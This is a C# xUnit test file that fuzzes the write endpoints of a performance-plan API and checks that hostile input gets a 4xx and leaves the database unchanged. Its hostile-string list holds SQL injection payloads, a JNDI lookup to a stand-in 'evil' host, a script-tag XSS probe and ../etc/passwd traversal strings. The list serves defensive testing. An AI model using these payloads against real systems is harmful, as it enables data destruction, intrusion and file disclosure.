using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using Performance.Api.Tests.Infrastructure;

namespace Performance.Api.Tests.Security;

/// <summary>Cremona with a draft, a submitted actual and a closure: every write endpoint has something real to act on.</summary>
public sealed class MalformedInputFactory : ApiFactory, IAsyncLifetime
{
    public TrustContext Context { get; private set; } = null!;
    public Guid Submitted { get; private set; }

    public async Task InitializeAsync()
    {
        Context = await TrustKit.SetUpCremonaAsync(this);
        var admin = CreateClient();
        var actual = await admin.PostActualOkAsync(Documents.CremonaCode, "2021_01_01_04.I1", """{"year":2021,"period":"Y","value":1}""");
        Submitted = Guid.Parse((string)actual["id"]!);
        Assert.Equal(HttpStatusCode.OK, (await admin.PostAsync($"/api/actuals/{Submitted}/submit", null)).StatusCode);
    }

    Task IAsyncLifetime.DisposeAsync() => Task.CompletedTask;
}

/// <summary>
/// Malformed JSON, wrong types, huge numbers, very long strings, unicode, injection strings and path tricks at every write
/// endpoint: always a 4xx without internals, and the database byte-for-byte unchanged.
/// </summary>
public sealed class MalformedInputTests(MalformedInputFactory factory) : IClassFixture<MalformedInputFactory>
{
    /// <summary>A write endpoint: a valid request, and which of its fields are identifiers, free texts, numbers, integers.</summary>
    private sealed record Target(
        string Name, string Method, Func<TrustContext, Guid, string> Url, string ValidBody, string[] PathVariantsOf,
        string[] Ids, string[] Texts, string[] Numbers, string[] Integers, bool IfMatch = false);

    private const string Plan = Documents.CremonaCode;

    private static readonly Target[] Targets =
    [
        new("import", "POST", (_, _) => "/api/plans/import", ImportBody(), [],
            Ids: ["code", "organization.code", "nodes[0].kind", "nodes[0].structure", "nodes[0].indicators[0].aggregation", "scoringPolicy.lowerIsBetter", "nodes[0].indicators[0].targets.2099"],
            Texts: ["title", "nodes[0].title", "nodes[0].indicators[0].targets.2021"], Numbers: ["nodes[0].weight", "scoringPolicy.cap"], Integers: ["startYear", "endYear"]),
        new("patch node", "PATCH", (c, _) => $"/api/plans/{Plan}/nodes/{c.Node}", """{"weight":2,"title":"Nuovo titolo","reason":"prova"}""", [Plan, "2021_01_01_02"],
            Ids: ["structure", "valueArea", "subArea", "projectType"], Texts: ["title", "finalita", "responsible", "reason"], Numbers: ["weight"], Integers: ["years[0]"],
            IfMatch: true),
        new("patch indicator", "PATCH", (c, _) => $"/api/indicators/{c.Indicator}", """{"weight":2,"name":"Nuovo nome","reason":"prova"}""", [c(Plan + ":2021_01_01_02.I1")],
            Ids: ["polarity", "unit", "type", "frequency", "aggregation", "targets.2099"], Texts: ["name", "formula", "source", "reason", "targets.2021"],
            Numbers: ["weight", "cap"], Integers: [], IfMatch: true),
        new("parse target", "POST", (_, _) => "/api/targets/parse", """{"expression":">= 80%","year":2021,"polarity":"HigherIsBetter"}""", [],
            Ids: ["polarity"], Texts: ["expression"], Numbers: [], Integers: ["year"]),
        new("record actual", "POST", (c, _) => $"/api/indicators/{Plan}:2021_01_02_04.I2/actuals", """{"year":2021,"period":"M05","value":3,"note":"ok"}""", [c(Plan + ":2021_01_02_04.I2")],
            Ids: ["period", "structure"], Texts: ["note", "justification", "reason"], Numbers: ["value", "completion"], Integers: ["year"]),
        new("bulk", "POST", (_, _) => $"/api/plans/{Plan}/actuals/bulk", """{"actuals":[{"indicator":"2021_01_02_04.I2","year":2021,"period":"M06","value":3}]}""", [Plan],
            Ids: ["actuals[0].indicator", "actuals[0].period", "actuals[0].structure"], Texts: ["actuals[0].note"], Numbers: ["actuals[0].value", "actuals[0].numerator"],
            Integers: ["actuals[0].year"]),
        new("reprogramming", "POST", (_, _) => $"/api/plans/{Plan}/reprogramming",
            """{"kind":"ReassignStructure","node":"2021_01_01_02","toStructure":"CR-A1","act":"Delibera 1/2021","date":"2021-07-01","reason":"Riorganizzazione"}""", [Plan],
            Ids: ["kind", "node", "toStructure", "date"], Texts: ["act", "reason"], Numbers: [], Integers: ["year"]),
        new("submit", "POST", (c, _) => $"/api/actuals/{c.Actual}/submit", """{"reason":"pronto"}""", [c("ACTUAL")],
            Ids: [], Texts: ["reason"], Numbers: [], Integers: []),
        new("validate", "POST", (_, s) => $"/api/actuals/{s}/validate", """{"reason":"ok"}""", [c("SUBMITTED")],
            Ids: [], Texts: ["reason"], Numbers: [], Integers: []),
        new("return", "POST", (_, s) => $"/api/actuals/{s}/return", """{"reason":"Manca la fonte"}""", [c("SUBMITTED")],
            Ids: [], Texts: ["reason"], Numbers: [], Integers: []),
        new("close period", "POST", (_, _) => $"/api/plans/{Plan}/closures", """{"year":2022,"period":"Q2","reason":"chiusura"}""", [Plan],
            Ids: ["period"], Texts: ["reason"], Numbers: [], Integers: ["year"]),
        new("reopen", "POST", (c, _) => $"/api/plans/{Plan}/closures/{c.Closure}/reopen", """{"reason":"riapertura"}""", [Plan, c("CLOSURE")],
            Ids: [], Texts: ["reason"], Numbers: [], Integers: []),
        new("validate year", "POST", (_, _) => $"/api/plans/{Plan}/years/2021/validate", """{"note":"Relazione"}""", [Plan, "2021"],
            Ids: [], Texts: ["note"], Numbers: [], Integers: []),
    ];

    // Placeholders resolved against the context when the path variants are built.
    private static string c(string placeholder) => placeholder;

    private static string ImportBody()
    {
        var document = Documents.Cremona("MAL-PLAN");
        return document.ToJsonString();
    }

    public static TheoryData<string> Endpoints()
    {
        var data = new TheoryData<string>();
        foreach (var t in Targets) data.Add(t.Name);
        return data;
    }

    private const string Injection = "'; DROP TABLE \"Plans\"; --";
    private static readonly string Megabyte = new('x', 1024 * 1024);

    private static readonly string[] HostileStrings =
    [
        Injection, "1 OR 1=1", "\" OR \"\"=\"", "Robert'); DELETE FROM \"AuditEntries\";--", "${jndi:ldap://evil/x}", "<script>alert(1)</script>",
        "../../etc/passwd", "..\\..\\windows", "%2e%2e%2f", "a/b", "CR-SG/../CR-A1", "\u0000", "CR-SG\u0000", "\u202Eevil", "📈🔥", "الهدف", "ㅤ", "\uFEFF",
        " ", Megabyte,
        // ("" is not here: in a PATCH it clears an optional reference, which is a legitimate change.)
    ];

    private static readonly JsonNode?[] WrongTypesForStrings = [123, true, new JsonArray(), new JsonObject(), 1.5];

    /// <summary>Raw numbers that no field can hold, and wrong types.</summary>
    private static readonly string[] HostileNumbers =
    [
        "1e400", "-1e400", "1234567890123456789012345678901234567890", "-1234567890123456789012345678901234567890", "1e30", "\"12\"", "true", "[]", "{}",
        "\"NaN\"", "\"Infinity\"", "79228162514264337593543950336", "\"" + Megabyte + "\"",
    ];

    private static readonly string[] HostileIntegers = [.. HostileNumbers, "2021.5", "99999999999", "-2147483649", "\"2021\""];

    private static IEnumerable<(string What, string Body)> BodyAttacks(Target t)
    {
        yield return ("truncated JSON", t.ValidBody[..(t.ValidBody.Length / 2)]);
        yield return ("unterminated string", "{\"a\":\"");
        yield return ("single quotes", t.ValidBody.Replace('"', '\''));
        yield return ("trailing comma", t.ValidBody.TrimEnd('}') + ",}");
        yield return ("comment", "/* x */" + t.ValidBody);
        yield return ("two documents", t.ValidBody + t.ValidBody);
        yield return ("array root", "[" + t.ValidBody + "]");
        yield return ("string root", "\"" + Injection + "\"");
        yield return ("number root", "1e400");
        yield return ("true root", "true");
        yield return ("xml", "<plan><code>x</code></plan>");
        yield return ("NUL bytes", "\0\0\0");
        yield return ("invalid UTF-8 escape", "{\"reason\":\"\\uD800\"}".Replace("reason", FirstKey(t)));
        yield return ("deeply nested arrays", new string('[', 10_000) + new string(']', 10_000));
        yield return ("deeply nested objects", string.Concat(Enumerable.Repeat("{\"a\":", 5_000)) + "1" + new string('}', 5_000));
        // The same key twice: which one counts would be a guess.
        var parsed = JsonNode.Parse(t.ValidBody)!.AsObject();
        var (key, value) = parsed.First();
        var other = value is JsonValue v && v.TryGetValue<string>(out var s) ? (JsonNode)JsonValue.Create(s + "-2")! : JsonValue.Create(7)!;
        yield return ("duplicate key", "{" + $"\"{key}\":{other.ToJsonString()}," + t.ValidBody.TrimStart().TrimStart('{'));

        foreach (var path in t.Ids)
        {
            foreach (var hostile in HostileStrings) yield return ($"{path} = {Describe(hostile)}", With(t.ValidBody, path, JsonValue.Create(hostile)));
            foreach (var wrong in WrongTypesForStrings) yield return ($"{path} = {wrong?.ToJsonString()}", With(t.ValidBody, path, wrong?.DeepClone()));
        }
        foreach (var path in t.Texts)
        {
            yield return ($"{path} = 1 MB", With(t.ValidBody, path, JsonValue.Create(Megabyte)));
            yield return ($"{path} = 1 MB of emoji", With(t.ValidBody, path, JsonValue.Create(string.Concat(Enumerable.Repeat("📈", 300_000)))));
            foreach (var wrong in WrongTypesForStrings) yield return ($"{path} = {wrong?.ToJsonString()}", With(t.ValidBody, path, wrong?.DeepClone()));
        }
        foreach (var path in t.Numbers)
            foreach (var raw in HostileNumbers) yield return ($"{path} = {Describe(raw)}", WithRaw(t.ValidBody, path, raw));
        foreach (var path in t.Integers)
            foreach (var raw in HostileIntegers) yield return ($"{path} = {Describe(raw)}", WithRaw(t.ValidBody, path, raw));
    }

    private static string FirstKey(Target t) => JsonNode.Parse(t.ValidBody)!.AsObject().First().Key;

    private static string Describe(string s) => s.Length > 40 ? $"<{s.Length} chars>" : s.Replace("\0", "\\0");

    /// <summary>The body with the value at a path like <c>actuals[0].period</c> or <c>targets.2021</c> replaced.</summary>
    private static string With(string body, string path, JsonNode? value)
    {
        var root = JsonNode.Parse(body)!;
        var segments = path.Split('.');
        JsonNode node = root;
        for (var i = 0; i < segments.Length; i++)
        {
            var segment = segments[i];
            var bracket = segment.IndexOf('[');
            var name = bracket < 0 ? segment : segment[..bracket];
            int? index = bracket < 0 ? null : int.Parse(segment[(bracket + 1)..^1]);
            var last = i == segments.Length - 1;
            if (index is null)
            {
                if (last) { node.AsObject()[name] = value; break; }
                node = node[name] ??= new JsonObject();
            }
            else
            {
                var array = (node[name] as JsonArray) ?? (JsonArray)(node[name] = new JsonArray());
                while (array.Count <= index) array.Add(last ? null : new JsonObject());
                if (last) { array[index.Value] = value; break; }
                node = array[index.Value]!;
            }
        }
        return root.ToJsonString();
    }

    private static string WithRaw(string body, string path, string raw)
    {
        const string marker = "__RAW_MARKER__";
        return With(body, path, JsonValue.Create(marker)).Replace($"\"{marker}\"", raw);
    }

    private static readonly string[] PathTricks =
    [
        // (A NUL in the path never reaches the service: Kestrel answers 400 itself, the in-memory test server throws.)
        "..", "%2e%2e", "..%2F..%2Fapi%2Fplans", "%2e%2e%2f%2e%2e%2f", "x%2Fy", Uri.EscapeDataString(Injection), "%F0%9F%93%88", "%E2%80%AE",
        "CR-SG%2F..%2FCR-A1", Uri.EscapeDataString(new string('a', 5000)), "%C0%AE%C0%AE", "%25",
    ];

    private string Resolve(string s) => s
        .Replace("ACTUAL", factory.Context.Actual.ToString())
        .Replace("SUBMITTED", factory.Submitted.ToString())
        .Replace("CLOSURE", factory.Context.Closure.ToString());

    private async Task<string> ETagAsync(HttpClient client, Target t)
    {
        var response = await client.GetAsync(t.Url(factory.Context, factory.Submitted));
        return response.ETag();
    }

    private static async Task AssertRefusedAsync(HttpResponseMessage response, string what)
    {
        var body = await response.Content.ReadAsStringAsync();
        var status = (int)response.StatusCode;
        Assert.True(status is >= 400 and < 500, $"{what}: expected a 4xx, got {status}: {TrustKit.Truncate(body)}");
        TrustKit.AssertNothingInternal(body);
        if (body.Length > 0 && status != 404 && status != 405)
            Assert.True(response.Content.Headers.ContentType?.MediaType == "application/problem+json", $"{what}: {status} is not ProblemDetails: {TrustKit.Truncate(body)}");
    }

    [Theory]
    [MemberData(nameof(Endpoints))]
    public async Task Hostile_input_is_refused_with_a_4xx_and_leaves_the_database_byte_for_byte_unchanged(string endpoint)
    {
        var t = Targets.Single(x => x.Name == endpoint);
        var client = factory.CreateClient(); // platform Admin: no authorization in the way
        var rows = await DatabaseFingerprint.RowsAsync(factory);
        var file = await DatabaseFingerprint.FileAsync(factory);
        var etag = t.IfMatch ? await ETagAsync(client, t) : null;
        var url = t.Url(factory.Context, factory.Submitted);

        var count = 0;
        foreach (var (what, body) in BodyAttacks(t))
        {
            await AssertRefusedAsync(await client.SendAsync(t.Method, url, body, etag), $"{endpoint}: {what}");
            count++;
        }

        // The valid body, on paths with tricks in their codes and ids.
        foreach (var original in t.PathVariantsOf.Select(Resolve))
            foreach (var trick in PathTricks)
            {
                var tricked = url.Replace(original, trick);
                Assert.NotEqual(url, tricked);
                await AssertRefusedAsync(await client.SendAsync(t.Method, tricked, t.ValidBody, etag), $"{endpoint}: path {tricked}");
                await AssertRefusedAsync(await client.SendAsync(t.Method, url.Replace(original, original + "/" + trick), t.ValidBody, etag), $"{endpoint}: path +/{trick}");
                count += 2;
            }

        // Not JSON at all.
        var plain = new HttpRequestMessage(new HttpMethod(t.Method), url) { Content = new StringContent(t.ValidBody, Encoding.UTF8, "text/plain") };
        if (etag is not null) plain.Headers.TryAddWithoutValidation("If-Match", etag);
        await AssertRefusedAsync(await client.SendAsync(plain), $"{endpoint}: text/plain");

        Assert.True(count > 10, $"only {count} attacks");
        Assert.Equal(rows, await DatabaseFingerprint.RowsAsync(factory));
        Assert.Equal(file, await DatabaseFingerprint.FileAsync(factory));
    }

    [Theory]
    [MemberData(nameof(Endpoints))]
    public async Task Characters_no_text_may_hold_are_a_400_under_the_fields_own_path(string endpoint)
    {
        // U+FFFF in a title made every export of the plan a 500 (issue 11.2): one rule, at every text field of every operation.
        var t = Targets.Single(x => x.Name == endpoint);
        var client = factory.CreateClient();
        var rows = await DatabaseFingerprint.RowsAsync(factory);
        var etag = t.IfMatch ? await ETagAsync(client, t) : null;
        var url = t.Url(factory.Context, factory.Submitted);
        foreach (var path in t.Texts)
            foreach (var character in new[] { "\u0000", "\u0001", "\u001F", "\uFFFE", "\uFFFF" })
            {
                var response = await client.SendAsync(t.Method, url, With(t.ValidBody, path, JsonValue.Create("testo" + character)), etag);
                (await response.AssertValidationProblemAsync()).AssertError(path, $"U+{(int)character[0]:X4} at position 6");
            }
        Assert.Equal(rows, await DatabaseFingerprint.RowsAsync(factory));
    }

    [Fact]
    public async Task Nul_and_hostile_characters_in_query_strings_and_lookups_are_4xx_on_every_engine()
    {
        var client = factory.CreateClient();
        var rows = await DatabaseFingerprint.RowsAsync(factory);
        foreach (var value in new[] { "%00", "a%00b", "%E2%80%AE", "%F0%9F%93%88", Uri.EscapeDataString(Injection), "%C0%AE" })
            foreach (var url in new[]
                     {
                         $"/api/audit?user={value}", $"/api/audit?plan={value}", $"/api/audit?indicator={Plan}:{value}", $"/api/plans/{Plan}/scorecard?structure={value}",
                         $"/api/plans/{Plan}/actuals/queue?status={value}", $"/api/plans/{Plan}/scorecard?year={value}",
                     })
            {
                var response = await client.GetAsync(url);
                var body = await response.Content.ReadAsStringAsync();
                Assert.True((int)response.StatusCode is < 500, $"{url}: {(int)response.StatusCode} {TrustKit.Truncate(body)}");
                TrustKit.AssertNothingInternal(body);
            }
        Assert.Equal(rows, await DatabaseFingerprint.RowsAsync(factory));
    }

    [Fact]
    public async Task The_valid_bodies_are_accepted_so_the_refusals_above_are_about_the_hostile_parts()
    {
        // Run on a copy of the state the theory uses: importing under another code and acting on fresh objects.
        var client = factory.CreateClient();
        var import = await client.PostJsonTextAsync("/api/plans/import", Documents.Cremona("MAL-VALID").ToJsonString());
        Assert.Equal(HttpStatusCode.Created, import.StatusCode);
        var parse = await client.PostJsonTextAsync("/api/targets/parse", Targets.Single(x => x.Name == "parse target").ValidBody);
        Assert.Equal(HttpStatusCode.OK, parse.StatusCode);
        var actual = await client.PostJsonTextAsync("/api/indicators/MAL-VALID:2021_01_02_04.I2/actuals", Targets.Single(x => x.Name == "record actual").ValidBody);
        Assert.Equal(HttpStatusCode.Created, actual.StatusCode);
        var bulk = await client.PostJsonTextAsync("/api/plans/MAL-VALID/actuals/bulk", Targets.Single(x => x.Name == "bulk").ValidBody);
        Assert.Equal(HttpStatusCode.OK, bulk.StatusCode);
        var reprogram = await client.PostJsonTextAsync("/api/plans/MAL-VALID/reprogramming", Targets.Single(x => x.Name == "reprogramming").ValidBody);
        Assert.True(reprogram.IsSuccessStatusCode, await reprogram.Content.ReadAsStringAsync());
        var close = await client.PostJsonTextAsync("/api/plans/MAL-VALID/closures", Targets.Single(x => x.Name == "close period").ValidBody);
        Assert.Equal(HttpStatusCode.Created, close.StatusCode);
        var reopen = await client.PostJsonTextAsync($"/api/plans/MAL-VALID/closures/{(await close.ReadJsonAsync())["id"]}/reopen", """{"reason":"riapertura"}""");
        Assert.Equal(HttpStatusCode.OK, reopen.StatusCode);
        var id = (await actual.ReadJsonAsync())["id"];
        Assert.Equal(HttpStatusCode.OK, (await client.PostJsonTextAsync($"/api/actuals/{id}/submit", """{"reason":"pronto"}""")).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await client.PostJsonTextAsync($"/api/actuals/{id}/return", """{"reason":"Manca la fonte"}""")).StatusCode);
        var node = await client.GetAsync("/api/plans/MAL-VALID/nodes/2021_01_01_02");
        Assert.Equal(HttpStatusCode.OK, (await client.PatchJsonAsync("/api/plans/MAL-VALID/nodes/2021_01_01_02", JsonNode.Parse(Targets.Single(x => x.Name == "patch node").ValidBody)!, node.ETag())).StatusCode);
        var indicator = await client.GetAsync("/api/indicators/MAL-VALID:2021_01_01_02.I1");
        Assert.Equal(HttpStatusCode.OK, (await client.PatchJsonAsync("/api/indicators/MAL-VALID:2021_01_01_02.I1", JsonNode.Parse(Targets.Single(x => x.Name == "patch indicator").ValidBody)!, indicator.ETag())).StatusCode);
    }
}
